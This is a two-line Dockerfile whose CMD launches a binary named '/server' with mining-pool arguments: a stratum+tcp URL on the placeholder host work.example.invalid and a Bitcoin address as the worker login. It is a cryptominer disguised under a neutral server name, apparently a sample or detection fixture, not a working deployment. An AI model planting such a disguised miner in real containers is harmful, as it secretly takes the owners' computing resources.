FROM debian:12-slim
CMD ["/server", "-o", "stratum+tcp://work.example.invalid:3333", "-u", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa.web7"]
